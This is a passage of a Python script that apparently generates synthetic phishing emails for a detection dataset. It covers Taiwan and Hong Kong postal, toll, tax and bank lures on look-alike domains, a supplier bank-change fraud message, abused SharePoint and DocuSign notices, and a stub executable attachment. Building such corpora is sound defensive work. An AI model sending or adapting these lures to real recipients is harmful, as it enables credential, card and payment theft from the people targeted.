        "Taiwan e-invoice 'your cloud invoice won NT$2,000, set up prize account' lure timed after the Jan draw, from einvoice-gov.com, link collects bank/credit-card data at einvoice.nat.gov.tw.prize-claim.com",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body))


def p_chunghwa_post() -> None:
    stem = "b38-phish-chunghwa-post-parcel"
    rcpt = "amy.huang@hsinyuan-tech.com.tw"
    sent = T(2025, 7, 15, 11, 37, 8, 8)
    dom = "post-gov-tw.top"
    url = f"https://post.gov.tw.ptc-redeliver.top/mail/?no={tok(stem, 14, DIGITS)}"
    plain = f"""中華郵政 包裹投遞通知

您好，您的國內包裹（郵件號碼：{tok(stem + 'n', 14, DIGITS)}）因收件地址不完整，
目前暫存於投遞局，無法完成投遞。

請於48小時內點擊以下連結更新收件資訊並支付重新投遞費用 NT$25，
逾期未處理之包裹將退回寄件人。

{url}

中華郵政股份有限公司
{TW_FOOT}
"""
    html = ("<html><head><meta charset=\"utf-8\"></head><body style=\"font-family:'Microsoft JhengHei';font-size:14px;\">"
            "<p style=\"color:#008000;font-size:18px;font-weight:bold;\">中華郵政 Chunghwa Post</p>"
            + plain.replace("\n", "<br>\n").replace(url, f'<a href="{url}">更新收件資訊</a>') + "</body></html>\n")
    hdr = H(
        f"From: {addr('中華郵政', 'service@' + dom)}",
        f"To: {rcpt}",
        subj("中華郵政：您的包裹因地址不完整暫停投遞，請於48小時內更新"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "154.38.112.76", f"service@{dom}", dom, "pass", [], dmarc=None)
    body = alt(plain, html, f"=_{tok(stem + 'b', 32)}", penc="quoted-printable", henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Chunghwa Post 'parcel held, address incomplete, pay NT$25 redelivery' lure to a company mailbox from post-gov-tw.top, link to post.gov.tw.ptc-redeliver.top",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="SG", lang="zh_chs"))


def p_etag_toll() -> None:
    stem = "b38-phish-fetc-etag-toll"
    rcpt = "lin.chihwei.tw@gmail.com"
    sent = T(2025, 5, 20, 8, 21, 59, 8)
    dom = "fetc-etag.com"
    url = f"https://www.fetc.net.tw-etag.pay-toll.cc/pay/?plate={tok(stem, 3, UHEX)}"
    paras = [
        "親愛的用路人您好：",
        "您的車輛於國道計程收費通行後，因 eTag 儲值帳戶餘額不足，<b>通行費 NT$ 286 元</b> 已逾繳費期限仍未繳納。",
        "依《公路法》第75條規定，逾期未繳者將處以新臺幣3,000元以上6,000元以下罰鍰，並追繳通行費及作業處理費。",
        "請於 <b>2025年5月22日</b> 前透過下方連結完成線上補繳，以免受罰。",
    ]
    html = kit_html("遠通電收", "遠通電收 Far Eastern Electronic Toll Collection", "#0a5cad", paras, "立即線上補繳", url,
                    ["遠通電收股份有限公司", TW_FOOT], lang="zh-Hant-TW")
    hdr = H(
        dkim(dom, "mail", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('遠通電收', 'service@' + dom)}",
        f"To: {rcpt}",
        subj("【遠通電收】您的車輛通行費已逾期未繳，請儘速繳納以免加收罰鍰"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
    )
    src = Src(f"mail.{dom}", "38.54.30.187", f"service@{dom}", dom, "pass", [(dom, "mail", "pass")], dmarc=None)
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Taiwan highway-toll lure: fake Far Eastern ETC (eTag) 'overdue toll NT$286, fine up to NT$6,000' from fetc-etag.com, card payment page on www.fetc.net.tw-etag.pay-toll.cc",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_sharepoint_partner_tw() -> None:
    stem = "b38-phish-sharepoint-partner-rfq"
    rcpt = "kevin.tsai@hsinyuan-tech.com.tw"
    sent = T(2025, 8, 12, 14, 20, 31, 8)
    fname = "2025Q3_採購詢價單_RFQ_信遠科技.pdf"
    link = (f"https://yuanfengelec-my.sharepoint.com/:b:/g/personal/jason_liao_yuanfeng-elec_com_tw/"
            f"E{tok(stem + 'sp', 45, URLSAFE)}?e={tok(stem + 'e', 6, ALNUM)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body>
<div style="font-family:'Segoe UI','Microsoft JhengHei',sans-serif;max-width:600px;">
<table cellpadding="0" cellspacing="0" style="width:100%;"><tr><td style="padding:24px 36px;">
<div style="font-size:21px;color:#242424;">Jason Liao 已與您共用檔案</div>
<div style="margin:16px 0;padding:12px 16px;border-left:3px solid #0f6cbd;background:#f5f5f5;font-size:14px;color:#424242;">
蔡經理您好，附上第三季採購詢價單，麻煩於本週五前協助報價，謝謝。</div>
<table cellpadding="0" cellspacing="0" style="border:1px solid #e0e0e0;width:100%;"><tr>
<td style="padding:12px;font-size:14px;"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/pdf.png" width="32" height="32" alt=""> {fname}</td></tr></table>
<div style="margin-top:20px;"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none;border-radius:4px;font-size:14px;">開啟</a></div>
<div style="margin-top:28px;font-size:12px;color:#616161;">此連結僅適用於直接收件者。<br>
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/microsoft_48x1.png" width="16" alt=""> Microsoft 隱私權聲明</div>
</td></tr></table></div></body></html>
"""
    plain = (f"Jason Liao 已與您共用檔案\n\n蔡經理您好，附上第三季採購詢價單，麻煩於本週五前協助報價，謝謝。\n\n"
             f"{fname}\n\n開啟 <{link}>\n\n此連結僅適用於直接收件者。\nMicrosoft 隱私權聲明 <https://go.microsoft.com/fwlink/?LinkId=521839>\n")
    hdr = H(
        dkim("sharepointonline.com", "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version", sent, stem),
        f"From: {addr('Jason Liao', 'no-reply@sharepointonline.com')}",
        f"To: {rcpt}",
        subj(f"Jason Liao 已與您共用「{fname}」"),
        f"Date: {rfc(sent, 0, pad=False)}",
        f"Message-ID: <{tok(stem + 'm', 8)}-{tok(stem + 'm2', 4)}-{tok(stem + 'm3', 4)}-{tok(stem + 'm4', 4)}-{tok(stem + 'm5', 12)}@odspnotify>",
        "X-Sharing-Notification: 1",
    )
    src = Src("APC01-TYZ-obe.outbound.protection.outlook.com", "40.107.117.52",
              f"bounce@sharepointonline.com", "sharepointonline.com", "pass",
              [("sharepointonline.com", "selector1", "pass")], dmarc="pass",
              rdns="mail-tyzapc01on2052.outbound.protection.outlook.com")
    body = alt(plain, html, f"--_=_swift_{tok(stem + 'b', 10, DIGITS)}_{tok(stem + 'b2', 32)}_=_", penc="quoted-printable",
               henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Genuine SharePoint sharing notification sent from a compromised partner's tenant (all authentication passes): an 'RFQ' PDF on the partner's OneDrive that leads to an AiTM sign-in page",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="TW", lang="zh_cht"))


def p_winos_tax_tw() -> None:
    stem = "b38-phish-tw-tax-audit-exe"
    rcpt = "acct@hsinyuan-tech.com.tw"
    sent = T(2025, 2, 11, 10, 55, 3, 8)
    dom = "ntbna-gov-tw.com"
    zdata = files.zip_archive([("114年度營利事業稅務稽查名單.exe", files.pe_stub()),
                               ("libcurl.dll", files.pe_stub())])
    plain = """貴公司 會計部門 您好：

依據財政部賦稅署114年度查核計畫，本局已完成營利事業所得稅
選案作業，貴公司列入本年度稅務稽查名單。

請於收到本通知後，下載附件「114年度營利事業稅務稽查名單」
確認貴公司之稽查項目，並於114年2月21日前備妥相關帳簿憑證，
配合本局稽查人員進行查核。

如未依期限配合辦理，將依稅捐稽徵法第46條規定處以罰鍰。

財政部北區國稅局 審查二科
聯絡電話：(03)339-6789 轉 2315
"""
    hdr = H(
        f"Received: from WIN-{tok(stem + 'w', 11, UHEX)} (unknown [{'154.91.64.' + str(num(stem, 2, 250))}])\n"
        f"\tby mail.{dom} (Postfix) with ESMTPA id {tok(stem + 'q', 10, UHEX)};\n\t{rfc(sent, 8, pad=False)}",
        f"From: {addr('財政部北區國稅局', 'service@' + dom, 'big5')}",
        f"To: {rcpt}",
        subj("財政部北區國稅局－114年度營利事業稅務稽查名單通知", "big5"),
        f"Date: {rfc(sent)}",
        f"Message-ID: <{tok(stem + 'm', 12, DIGITS)}.{tok(stem + 'm2', 10, DIGITS)}@{dom}>",
        "X-Mailer: Foxmail 7.2.25.331[cn]",
    )
    src = Src(f"mail.{dom}", "154.91.64.199", f"service@{dom}", dom, "pass", [], dmarc=None)
    body = mixed(f"----=_NextPart_{tok(stem + 'b', 24, UHEX)}",
                 text(plain, "plain", "base64", "big5"),
                 att("application/octet-stream", "114年度稅務稽查名單.zip", zdata, "big5"))
    add(stem, "phish", "malware",
        "Winos4.0/ValleyRAT-style campaign against Taiwan firms: fake National Taxation Bureau 'tax audit list' from ntbna-gov-tw.com with a zip holding an .exe and side-loaded DLL",
        deliver(rcpt, sent + timedelta(seconds=5), src, stem, hdr, body, ctry="HK", lang="zh_cht"))


def p_711_seller_scam() -> None:
    stem = "b38-phish-711-myship-seller"
    rcpt = "chen.yating0913@gmail.com"
    sent = T(2025, 6, 24, 16, 12, 45, 8)
    dom = "myship711-support.com"
    url = f"https://myship.7-11.com.tw.verify-seller.cc/seller/auth?oid={tok(stem, 10, DIGITS)}"
    paras = [
        "親愛的賣家您好：",
        "您的賣場商品「二手 Nintendo Switch OLED 主機」已有買家下單，但因您的賣場<b>尚未完成「金流服務協議」簽署</b>，"
        "買家付款時遭系統凍結，款項目前暫存於平台。",
        "為保障交易安全，請於 <b>30分鐘內</b> 點擊下方連結完成賣家實名認證及金流簽署，系統將自動解凍款項並撥款至您的帳戶。",
        "※ 認證過程中需輸入收款銀行帳戶及網銀驗證碼，請依頁面指示操作，如有疑問可透過頁面中的 LINE 線上客服協助。",
    ]
    html = kit_html("7-ELEVEN 賣貨便", "7-ELEVEN 賣貨便", "#f58220", paras, "完成金流簽署", url,
                    ["統一超商 賣貨便 客服中心", TW_FOOT], lang="zh-Hant-TW")
    hdr = H(
        f"From: {addr('7-ELEVEN賣貨便 客服中心', 'service@' + dom)}",
        f"To: {rcpt}",
        subj("【賣貨便】您的賣場因未完成金流服務協議簽署，買家無法付款"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "103.235.46.112", f"service@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html)
    add(stem, "phish", "phishing",
        "Marketplace scam on a second-hand seller: fake 7-ELEVEN MyShip 'sign the payment-flow agreement or the buyer's payment stays frozen' page that harvests bank login and OTP",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


TW_ATTACKS = [p_ctbc_big5, p_cathay_points, p_einvoice_prize, p_chunghwa_post, p_etag_toll, p_sharepoint_partner_tw,
              p_winos_tax_tw, p_711_seller_scam]

# ---------------------------------------------------------------------------
# ATTACKS — Hong Kong
# ---------------------------------------------------------------------------


def p_hsbc_hk() -> None:
    stem = "b38-phish-hsbc-hk-security-device"
    rcpt = "ckwong_88@outlook.com"
    sent = T(2024, 9, 10, 12, 4, 50, 8)
    dom = "hsbc-hk-alerts.com"
    url = f"https://www.hsbc.com.hk.security-key-renew.com/security/device/?ref={tok(stem, 12, ALNUM)}"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="margin:0;font-family:Arial,'Microsoft JhengHei',sans-serif;color:#333;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:18px 0;border-bottom:4px solid #db0011;font-size:20px;font-weight:bold;">HSBC <span style="color:#db0011;">&#9670;</span></td></tr>
<tr><td style="padding:20px 0;font-size:14px;line-height:1.7;">
<p>Dear Customer,</p>
<p>As part of our ongoing security upgrade, physical Security Devices will be replaced by the <b>Digital Secure Key</b>.
Our records show that your Security Device has not been migrated. It will be <b>deactivated on 13 September 2024</b>,
after which you will not be able to log on to HSBC Online Banking or make transfers.</p>
<p>Please complete the migration now to avoid interruption:</p>
<p style="margin:22px 0;"><a href="{url}" style="background:#db0011;color:#fff;padding:12px 30px;text-decoration:none;">Migrate now 立即轉移</a></p>
<hr style="border:0;border-top:1px solid #ddd;">
<p>親愛的客戶：</p>
<p>為提升保安，實體保安編碼器將由<b>流動保安編碼</b>取代。我們的紀錄顯示您尚未完成轉移，您的保安編碼器將於<b>2024年9月13日</b>停用，屆時您將無法登入網上理財或進行轉賬。請立即完成轉移。</p>
</td></tr>
<tr><td style="font-size:11px;color:#777;padding:12px 0;border-top:1px solid #ddd;">
The Hongkong and Shanghai Banking Corporation Limited<br>香港上海滙豐銀行有限公司<br>
This is an automatically generated email. Please do not reply.</td></tr>
</table></body></html>
"""
    plain = ("Dear Customer,\n\nYour Security Device will be deactivated on 13 September 2024.\n"
             f"Please migrate to the Digital Secure Key now:\n{url}\n\n"
             "親愛的客戶：您的保安編碼器將於2024年9月13日停用，請立即完成轉移。\n\n"
             "The Hongkong and Shanghai Banking Corporation Limited\n")
    hdr = H(
        dkim(dom, "s1", "from:to:subject:date:message-id:mime-version", sent, stem),
        f"From: {addr('HSBC HK', 'security@' + dom)}",
        f"To: {rcpt}",
        subj("Action required: Security Device deactivation 行動需要：保安編碼器即將停用"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "193.149.176.31", f"security@{dom}", dom, "pass", [(dom, "s1", "pass")], dmarc=None)
    body = alt(plain, html, f"b1=_{tok(stem + 'bd', 40, ALNUM)}")
    add(stem, "phish", "phishing",
        "HSBC Hong Kong 'Security Device will be deactivated, migrate to Digital Secure Key' bilingual lure from hsbc-hk-alerts.com to an Outlook.com user, link to www.hsbc.com.hk.security-key-renew.com",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="NL", lang="en"))


def p_hkpost() -> None:
    stem = "b38-phish-hongkong-post-fee"
    rcpt = "tammy.lau.hk@gmail.com"
    sent = T(2025, 2, 6, 15, 33, 12, 8)
    dom = "hongkongpost-delivery.top"
    url = f"https://www.hongkongpost.hk.{dom}/track/?id=EE{tok(stem, 9, DIGITS)}HK"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,'Microsoft JhengHei',sans-serif;font-size:14px;color:#222;">
<div style="width:600px;margin:0 auto;">
<div style="background:#006633;color:#fff;padding:14px;font-size:18px;">香港郵政 Hongkong Post</div>
<div style="padding:18px 6px;line-height:1.8;">
<p>您的郵件（編號：EE{tok(stem, 9, DIGITS)}HK）因未繳付附加費 <b>HK$18.00</b> 而被暫扣於郵件中心。</p>
<p>請於 <b>48小時內</b> 繳付費用及確認派遞地址，否則郵件將退回寄件人。</p>
<p>Your item (No. EE{tok(stem, 9, DIGITS)}HK) is on hold at the Mail Centre because a surcharge of <b>HK$18.00</b> is unpaid.
Please pay and confirm your delivery address within 48 hours, otherwise the item will be returned to the sender.</p>
<p style="margin:22px 0;"><a href="{url}" style="background:#006633;color:#fff;padding:10px 28px;text-decoration:none;">繳付費用 Pay now</a></p>
<p style="font-size:12px;color:#888;">此電郵由系統自動發出，請勿回覆。This is a system-generated email. Please do not reply.</p>
</div></div></body></html>
"""
    hdr = H(
        f"From: {addr('Hongkong Post 香港郵政', 'notice@' + dom)}",
        f"To: {rcpt}",
        subj("香港郵政：您的郵件因未付附加費被暫扣 Hongkong Post: Your item is on hold"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "45.139.104.77", f"notice@{dom}", dom, "pass", [], dmarc=None)
    body = html_only(html, enc="quoted-printable")
    add(stem, "phish", "phishing",
        "Hongkong Post 'item on hold, unpaid HK$18 surcharge' bilingual lure from hongkongpost-delivery.top, card-payment link on a hongkongpost.hk.* subdomain",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_sf_express() -> None:
    stem = "b38-phish-sf-express-address"
    rcpt = "eric.ho@pacificharbour.com.hk"
    sent = T(2025, 10, 9, 10, 14, 27, 8)
    dom = "sf-express-hk.cc"
    waybill = "SF" + tok(stem + "wb", 13, DIGITS)
    url = f"https://htm.sf-express.com.hk-track.cc/hk/tc/dynamic_function/waybill/#search/bill-number/{waybill}"
    plain = f"""【順豐速運】

尊敬的客戶您好：

您的快件（運單號：{waybill}）因收件地址資料不全，暫存於觀塘營業點，
未能安排派送。

請於 2025年10月11日 前點擊以下連結補充地址資料並繳付重新派送費 HK$12，
逾期快件將退回寄件方。

{url}

順豐速運（香港）有限公司
此郵件由系統自動發出，請勿直接回覆。
"""
    hdr = H(
        f"From: {addr('順豐速運 SF Express', 'noreply@' + dom)}",
        f"To: {rcpt}",
        subj(f"【順豐速運】您的快件 {waybill} 因地址資料不全暫存營業點"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom, 'date')}",
    )
    src = Src(f"mail.{dom}", "45.192.176.64", f"noreply@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "base64", "utf-8")
    add(stem, "phish", "phishing",
        "SF Express 'waybill held, address incomplete, pay HK$12 redelivery' lure to a HK company user from sf-express-hk.cc, link to htm.sf-express.com.hk-track.cc",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="HK", lang="zh_cht"))


def p_hk_etax_refund() -> None:
    stem = "b38-phish-hk-ird-etax-refund"
    rcpt = "kelvin.cheung.hk@gmail.com"
    sent = T(2025, 7, 3, 9, 47, 16, 8)
    dom = "ird-gov-hk.com"
    url = f"https://www.gov.hk.etax-refund.{dom}/eTAX/refund?ref=IRD{tok(stem, 8, DIGITS)}"
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,'PMingLiU',sans-serif;font-size:14px;color:#222;">
<div style="width:620px;margin:0 auto;border:1px solid #ccc;">
<div style="background:#1f4e79;color:#fff;padding:12px 16px;">稅務局 Inland Revenue Department — eTAX</div>
<div style="padding:18px 16px;line-height:1.8;">
<p>親愛的納稅人：</p>
<p>經覆核你的2024/25課稅年度薪俸稅評稅，你可獲退回多繳稅款 <b>HK$4,860.00</b>。
由於你未有於「稅務易」登記退稅戶口，請於 <b>2025年7月10日</b> 前登入並提供銀行卡資料以安排退款。</p>
<p>Dear Taxpayer,</p>
<p>After review of your 2024/25 Salaries Tax assessment, you are entitled to a refund of <b>HK$4,860.00</b>.
Please log in to eTAX and provide your bank card details before <b>10 July 2025</b> so that the refund can be arranged.</p>
<p><a href="{url}" style="background:#1f4e79;color:#fff;padding:10px 26px;text-decoration:none;">登入稅務易 Log in to eTAX</a></p>
<p style="font-size:12px;color:#777;">此乃電腦發出的電郵，毋須回覆。This is a computer-generated email. No reply is required.</p>
</div></div></body></html>
"""
    hdr = H(
        dkim(dom, "default", "from:to:subject:date:message-id", sent, stem),
        f"From: {addr('Inland Revenue Department', 'etax@' + dom)}",
        f"To: {rcpt}",
        subj("稅務局：2024/25課稅年度退稅通知 IRD: Tax refund notification (HK$4,860.00)"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "194.26.192.58", f"etax@{dom}", dom, "pass", [(dom, "default", "pass")], dmarc=None)
    body = html_only(html)
    add(stem, "phish", "phishing",
        "HK Inland Revenue eTAX 'salaries-tax refund HK$4,860, give bank card details' bilingual lure from ird-gov-hk.com, link to www.gov.hk.etax-refund.ird-gov-hk.com",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body))


def p_hketoll() -> None:
    stem = "b38-phish-hketoll-overdue"
    rcpt = "ckwong_88@outlook.com"
    sent = T(2025, 3, 12, 18, 25, 37, 8)
    dom = "hketoll-gov.com"
    url = f"https://www.hketoll.gov.hk.toll-pay.cfd/pay?v={tok(stem, 4, UHEX)}{tok(stem + 'v', 4, DIGITS)}"
    plain = f"""HKeToll 易通行 – 繳費通知 Payment Reminder

車主您好：
你的車輛使用收費隧道後，繳費帳戶餘額不足，尚有 HK$48.00 隧道費逾期未繳。
請於2025年3月14日前繳付，否則將按《道路交通（電子收費）規例》收取附加費及罰款。

Dear vehicle owner,
An outstanding tunnel toll of HK$48.00 has not been paid for your vehicle.
Please settle it before 14 March 2025 to avoid a surcharge and penalty.

{url}

運輸署 Transport Department
"""
    hdr = H(
        f"From: {addr('HKeToll', 'no-reply@' + dom)}",
        f"To: {rcpt}",
        subj("HKeToll 易通行：逾期未繳隧道費 Overdue toll notice"),
        f"Date: {rfc(sent)}",
        f"Message-ID: {kit_mid(stem, dom)}",
    )
    src = Src(f"mail.{dom}", "91.215.85.140", f"no-reply@{dom}", dom, "pass", [], dmarc=None)
    body = text(plain, "plain", "quoted-printable", "utf-8")
    add(stem, "phish", "phishing",
        "HK highway-toll lure: 'HKeToll overdue tunnel toll HK$48' bilingual plain text from hketoll-gov.com, payment link on www.hketoll.gov.hk.toll-pay.cfd",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="RU", lang="en"))


def p_hk_bec_invoice() -> None:
    stem = "b38-phish-hk-supplier-bank-change"
    rcpt = "accounts@pacificharbour.com.hk"
    sent = T(2025, 4, 16, 11, 8, 40, 8)
    dom = "everbright-elec.co"
    plain = """Dear Ivy,

Good day.

Thanks for your confirmation. Please note that our HSBC account is currently
under annual tax review and temporarily cannot receive foreign payments.
Kindly arrange the payment for invoice EB-INV-250318 (USD 36,420.00) to our
other company account below:

Beneficiary Name: Everbright Global Trading Limited
Bank Name: Bank of Communications (Hong Kong) Limited
Account No.: 382-512-0-048713-6
SWIFT: COMMHKHK
Bank Address: 20 Pedder Street, Central, Hong Kong

Please send us the bank slip once done so we can arrange the shipment of
PO PH-2025-0112 on time. Our finance manager is travelling now, so please
reply by email only.

Best regards,
Lily Zhang
Sales Dept. | Everbright Electronics (Shenzhen) Co., Ltd.
Tel: +86 755 2671 8830  Mob: +86 138 2745 1196

From: Ivy Chan <ivy.chan@pacificharbour.com.hk>
Sent: Tuesday, April 15, 2025 5:42 PM
To: Lily Zhang <lily.zhang@everbright-elec.com>
Cc: Accounts <accounts@pacificharbour.com.hk>
Subject: RE: Invoice EB-INV-250318 / PO PH-2025-0112

Dear Lily,

Noted with thanks. We will arrange payment of EB-INV-250318 this week.

Best regards,
Ivy Chan
Accounts | Pacific Harbour Trading Ltd
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body>"
            "<div style=\"font-family:Calibri,sans-serif;font-size:11pt;\">" + plain.replace("\n", "<br>\n")
            + "</div></body></html>\n")
    hdr = H(
        dkim(dom, "default", "from:to:cc:subject:date:message-id:in-reply-to:references", sent, stem),
        f"From: {addr('Lily Zhang', 'lily.zhang@' + dom)}",
        f"To: {addr('Accounts', rcpt)}",
        f"Cc: {addr('Ivy Chan', 'ivy.chan@pacificharbour.com.hk')}",
        "Subject: RE: Invoice EB-INV-250318 / PO PH-2025-0112 - updated remittance details",
        f"Date: {rfc(sent)}",
        f"Message-ID: {desktop_mid(stem, dom)}",
        f"In-Reply-To: {outlook_mid(stem + 'ir', 'hk')}",
        f"References: {outlook_mid(stem + 'ir', 'hk')}",
        "X-Mailer: Microsoft Outlook 16.0",
        "Content-Language: en-us",
    )
    src = Src(f"mail.{dom}", "185.236.231.19", f"lily.zhang@{dom}", dom, "pass", [(dom, "default", "pass")],
              dmarc=None)
    body = alt(plain, html, f"----=_NextPart_000_{tok(stem + 'b', 4, UHEX)}_01DBAE{tok(stem + 'b2', 2, UHEX)}.{tok(stem + 'b3', 8, UHEX)}",
               charset="us-ascii", penc="7bit", henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Supplier BEC: look-alike everbright-elec.co (real supplier is everbright-elec.com) replies in the invoice thread asking USD 36,420 to a different company's bank account, 'email only'",
        deliver(rcpt, sent + timedelta(seconds=3), src, stem, hdr, body, ctry="DE", lang="en"))


def p_docusign_abuse_hk() -> None:
    stem = "b38-phish-docusign-payroll-abuse"
    rcpt = "raymond.lee@pacificharbour.com.hk"
    sent = T(2025, 1, 22, 2, 41, 9, 0)
    env = tok(stem + "env", 32).upper()
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={tok(stem + 'a', 8)}-{tok(stem + 'a2', 4)}-{tok(stem + 'a3', 4)}-"
            f"{tok(stem + 'a4', 4)}-{tok(stem + 'a5', 12)}&etti=24&acct={tok(stem + 'ac', 8)}-{tok(stem + 'ac2', 4)}-"
            f"{tok(stem + 'ac3', 4)}-{tok(stem + 'ac4', 4)}-{tok(stem + 'ac5', 12)}&er={tok(stem + 'er', 8)}-{tok(stem + 'er2', 4)}")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea;">
<table style="width:100%;max-width:640px;margin:0 auto;background:#ffffff;font-family:Helvetica,Arial,sans-serif;" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px;"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" width="116" height="34"></td></tr>
<tr><td style="padding:0 24px 30px 24px;">
<table style="width:100%;background-color:#1e4ca1;color:#ffffff;" cellpadding="0" cellspacing="0"><tr><td style="padding:28px 36px;text-align:center;">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
<span style="font-size:16px;">Pacific Harbour HR sent you a document to review and sign.</span><br><br>
<a href="{link}" style="background-color:#ffc423;color:#333333;font-size:15px;font-weight:bold;text-decoration:none;padding:12px 20px;border-radius:2px;display:inline-block;">REVIEW DOCUMENT</a>
</td></tr></table>
</td></tr>
<tr><td style="padding:0 24px 24px 36px;font-size:16px;color:#333333;">
<b>Pacific Harbour HR</b><br><a href="mailto:payroll@pacificharbour-hr.com" style="color:#2463d1;">payroll@pacificharbour-hr.com</a><br><br>
Dear Raymond,<br><br>Please review and sign the 2025 Annual Salary Adjustment and Bonus Allocation letter before 24 January 2025. The adjustment will be reflected in the February payroll.<br><br>Thank you,<br>HR &amp; Payroll
</td></tr>
<tr><td style="padding:0 24px 12px 36px;background-color:#ffffff;font-size:11px;color:#666666;">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463d1;">How to Sign a Document</a>" on our <a href="https://support.docusign.com/" style="color:#2463d1;">Docusign Support Center</a>.<br><br>
This message was sent to you by Pacific Harbour HR who is using the Docusign Electronic Signature Service.
</td></tr></table></body></html>
"""
    plain = (f"Pacific Harbour HR sent you a document to review and sign.\n\nREVIEW DOCUMENT <{link}>\n\n"
             "Pacific Harbour HR\npayroll@pacificharbour-hr.com\n\nDear Raymond,\n\nPlease review and sign the 2025 Annual "
             "Salary Adjustment and Bonus Allocation letter before 24 January 2025.\n\nThank you,\nHR & Payroll\n\n"
             "Do Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, link, "
             "or access code with others.\n")
    hdr = H(
        dkim("docusign.net", "s1", "From:Reply-To:To:Subject:Date:Message-ID:Content-Type:MIME-Version", sent, stem,
             c="relaxed/relaxed"),
        f"X-DocuSign-EnvelopeID: {env[:8]}-{env[8:12]}-{env[12:16]}-{env[16:20]}-{env[20:32]}",
        f"Message-ID: <{tok(stem + 'm', 32)}@docusign.net>",
        f"Date: {rfc(sent, 0, pad=False)}",
        f"From: {addr('Pacific Harbour HR via Docusign', 'dse_NA4@docusign.net')}",
        f"Reply-To: {addr('Pacific Harbour HR', 'payroll@pacificharbour-hr.com')}",
        f"To: {addr('Raymond Lee', rcpt)}",
        "Subject: Complete with Docusign: 2025 Annual Salary Adjustment - Raymond Lee.pdf",
    )
    src = Src("mailna4.docusign.net", "64.207.219.73", "dse_NA4@docusign.net", "docusign.net", "pass",
              [("docusign.net", "s1", "pass")], dmarc="pass")
    body = alt(plain, html, f"----=_NextPart_{tok(stem + 'b', 8)}_{tok(stem + 'b2', 4)}", penc="quoted-printable",
               henc="quoted-printable")
    add(stem, "phish", "phishing",
        "Genuine DocuSign envelope abused (passes DocuSign's SPF/DKIM/DMARC): 'Pacific Harbour HR' salary-adjustment letter sent from an outside account payroll@pacificharbour-hr.com; the document leads to a Microsoft 365 credential page",
        deliver(rcpt, sent + timedelta(seconds=2), src, stem, hdr, body, ctry="US", lang="en"))


def p_hk_invest_whatsapp() -> None:
    stem = "b38-phish-hk-whatsapp-stock-group"
    rcpt = "kelvin.cheung.hk@gmail.com"
    sent = T(2024, 11, 20, 20, 16, 3, 8)
    frm = "kelly.chan.invest@outlook.com"
    wa = "https://wa.me/85265148392?text=%E6%88%91%E6%83%B3%E5%8A%A0%E5%85%A5%E8%82%A1%E7%A5%A8%E7%BE%A4"
    plain = f"""張先生你好，

我係陳老師嘅助理 Kelly。陳老師喺港股同美股投資有超過20年經驗，
今個月佢喺 WhatsApp 群組免費分享「AI量化選股」每日3隻潛力股，
上個月群組推介嘅股票平均升幅有 42%。

而家群組仲有最後15個免費名額，有興趣嘅話可以直接撳以下連結 WhatsApp 我，
我會幫你加入群組，仲會送你一份《2025港股十大潛力股》報告。

{wa}

名額有限，額滿即止。

Kelly
陳老師投資研究團隊
"""
    mbx = f"SJ0PR03MB{num(stem, 4000, 9999)}"
    mid = f"<{mbx}{tok(stem + 'm', 32, UHEX)}@{mbx}.namprd03.prod.outlook.com>"
    hdr = H(
